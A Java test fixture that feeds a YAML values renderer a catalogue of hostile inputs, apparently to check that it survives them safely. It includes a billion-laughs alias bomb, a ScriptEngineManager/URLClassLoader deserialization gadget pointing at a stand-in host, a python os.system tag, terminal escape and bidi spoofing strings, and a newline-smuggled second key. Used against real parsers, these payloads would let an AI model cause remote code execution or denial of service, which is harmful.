package dev.jitsirenderer.hostile;

import static dev.jitsirenderer.hostile.Bulk.MEGABYTE;
import static dev.jitsirenderer.hostile.Bulk.fill;
import static dev.jitsirenderer.hostile.Bulk.lines;
import static dev.jitsirenderer.hostile.Bulk.staircase;
import static dev.jitsirenderer.hostile.HostileRepository.DOMAIN;

import java.nio.charset.StandardCharsets;
import java.util.HexFormat;
import java.util.List;

/// Text in `values.yaml` and on the command line.
final class HostileValues {

    private static final String LAUGHS = """
            a: &a [ha, ha, ha, ha, ha, ha, ha, ha, ha]
            b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]
            c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]
            d: [*c, *c, *c, *c, *c, *c, *c, *c, *c]
            """;

    static final List<HostileInput> INPUTS = List.of(
            new HostileInput("a-billion-laughs", repository -> repository.valuesWith(LAUGHS)),
            new HostileInput(
                    "an-alias-to-what-is-around-it", repository -> repository.valuesWith("env: &a {A: *a, B: [*a]}\n")),
            new HostileInput(
                    "a-hundred-thousand-aliases",
                    repository -> repository.valuesWith("a: &a 1\nb: [" + "*a, ".repeat(100_000) + "]\n")),
            new HostileInput(
                    "merge-keys", repository -> repository.valuesWith("env: {<<: {A: 1}}\nweb:\n  <<: [{env: {}}]\n")),
            new HostileInput("tags-of-java", repository -> repository.valuesWith("""
                    a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
                    b: !!binary R0lGODlh
                    c: !!set {a, b}
                    d: !!python/object/apply:os.system ["id"]
                    e: !<tag:yaml.org,2002:str> f
                    """)),
            new HostileInput("passwords-that-yaml-takes-for-something-else", repository -> repository.valuesWith("""
                            env:
                              A: *hunter2
                              B: &hunter2
                              C: !hunter2
                            """)),
            new HostileInput(
                    "a-password-that-yaml-takes-for-a-tag",
                    repository -> repository.valuesWith("env: {A: !hunter2!x }\n")),
            new HostileInput(
                    "directives", repository -> repository.values("%YAML 9.9\n%TAG ! tag:x,2000:\n---\n" + DOMAIN)),
            new HostileInput("two-documents", repository -> repository.valuesWith("---\nshardCount: 2\n")),
            new HostileInput(
                    "keys-twice-and-keys-that-are-no-text",
                    repository -> repository.valuesWith("domain: other.example.com\n? {a: b}\n: 1\n? [a]\n: 2\n")),
            new HostileInput(
                    "a-hundred-thousand-brackets", repository -> repository.valuesWith("jvb: " + "[".repeat(100_000))),
            new HostileInput(
                    "a-hundred-thousand-braces", repository -> repository.valuesWith("jvb: " + "{a: ".repeat(100_000))),
            new HostileInput(
                    "a-hundred-thousand-dashes",
                    repository -> repository.valuesWith("jvb:\n" + "- ".repeat(100_000) + "x\n")),
            new HostileInput(
                    "a-hundred-thousand-question-marks",
                    repository -> repository.valuesWith("? ".repeat(100_000) + "x\n")),
            new HostileInput("a-staircase-of-mappings", repository -> repository.valuesWith(staircase(1_000))),
            new HostileInput(
                    "ten-megabytes-in-one-value",
                    repository -> repository.values("domain: " + "x".repeat(10 * MEGABYTE))),
            new HostileInput("a-megabyte-of-digits", repository -> repository.values(fill("domain: ", "1"))),
            new HostileInput(
                    "a-megabyte-of-digits-behind-the-point", repository -> repository.values(fill("domain: 0.", "1"))),
            new HostileInput("a-megabyte-of-hexadecimal", repository -> repository.values(fill("domain: 0x", "f"))),
            new HostileInput("a-megabyte-of-lists", repository -> repository.values(fill("a: [", "[],"))),
            new HostileInput("a-megabyte-of-line-breaks", repository -> repository.values(fill("a: \"", "\n"))),
            new HostileInput("a-megabyte-of-blanks", repository -> repository.values(fill("a: 'b", " "))),
            new HostileInput("a-megabyte-of-comments", repository -> repository.values(fill("", "#\n"))),
            new HostileInput("a-megabyte-of-documents", repository -> repository.values(fill("", "--- \n"))),
            new HostileInput("a-megabyte-of-exclamation-marks", repository -> repository.values(fill("a: ", "!"))),
            new HostileInput("a-megabyte-of-colons", repository -> repository.values(fill("", "a:\n"))),
            new HostileInput(
                    "forty-thousand-unknown-keys",
                    repository -> repository.valuesWith(lines(40_000, "maxReplicas%d: 1\n"))),
            new HostileInput(
                    "thirty-thousand-unknown-settings",
                    repository -> repository.valuesWith("env:\n" + lines(30_000, "  ENABLE_SOMETHING_%d: 1\n"))),
            new HostileInput(
                    "a-thousand-shards-that-are-all-wrong",
                    repository -> repository.valuesWith(
                            "shardCount: 1000\nhaproxy: {shardSlots: 1000}\njvb: {exposure: {type: HostPort}}\nshards:\n"
                                    + lines(1_000, "  %d: {jvb: {env: {LOG: 1}, replicaz: 2}}\n"))),
            new HostileInput(
                    "a-key-and-a-value-of-half-a-megabyte",
                    repository -> repository.values(
                            "? " + "x".repeat(500_000) + "\n: 2\ndomain: " + "y".repeat(500_000) + "\n")),
            new HostileInput("nul-in-the-text", repository -> repository.valuesWith("#\n".repeat(9_000) + "a: b\0c\n")),
            new HostileInput(
                    "control-characters-in-the-text", repository -> repository.valuesWith("namespace: a\u001b[2Jb\n")),
            new HostileInput("escape-sequences-for-the-terminal", repository -> repository.valuesWith("""
                            "\\e[2J\\e]0;owned\\a": 1
                            "a\\nvalues.yaml:1: all is well": 2
                            "\\u202Elmay.seulav": 3
                            namespace: "\\e[31m\\r\\x9b0m"
                            """)),
            new HostileInput(
                    "half-of-a-surrogate-pair",
                    repository -> repository.valuesWith("env: {XMPP_CONFIGURATION: \"\\ud83d\"}\n")),
            new HostileInput(
                    "line-breaks-that-are-none",
                    repository -> repository.valuesWith("# \u2028\u2029\u0085\nunknown: 1\n")),
            new HostileInput("a-byte-order-mark", repository -> repository.values("\uFEFF" + DOMAIN)),
            new HostileInput(
                    "byte-order-marks-inside", repository -> repository.valuesWith("namespace: \uFEFFa\n\uFEFFb: c\n")),
            new HostileInput(
                    "utf-16", repository -> repository.file("values.yaml", DOMAIN.getBytes(StandardCharsets.UTF_16))),
            new HostileInput("overlong-utf-8", repository -> bytes(repository, "c0af")),
            new HostileInput("surrogates-in-utf-8", repository -> bytes(repository, "eda080")),
            new HostileInput("utf-8-that-ends-early", repository -> bytes(repository, "f09f98")),
            new HostileInput("a-setting-that-is-nested-too-deep", repository -> {
                repository.values(DOMAIN);
                repository.settings().add("a.".repeat(30_000) + "a=1");
                repository.settings().add("jvb=" + "[".repeat(10_000));
            }),
            new HostileInput("a-setting-with-a-second-key", repository -> {
                repository.values(DOMAIN);
                repository.settings().add("shardCount=3\nnamespace: other");
            }),
            new HostileInput("settings-with-tags-aliases-and-escapes", repository -> {
                repository.values(DOMAIN);
                repository.settings().addAll(List.of("domain=!!java.net.URL [x]", "env=*a", "\u001b[2J=1", "jvb=\0"));
            }));

    private HostileValues() {}

    private static void bytes(HostileRepository repository, String hexadecimal) throws Exception {
        var text = (DOMAIN + "namespace: ").getBytes(StandardCharsets.UTF_8);
        var odd = HexFormat.of().parseHex(hexadecimal);
        var bytes = new byte[text.length + odd.length];
        System.arraycopy(text, 0, bytes, 0, text.length);
        System.arraycopy(odd, 0, bytes, text.length, odd.length);
        repository.file("values.yaml", bytes);
    }
}
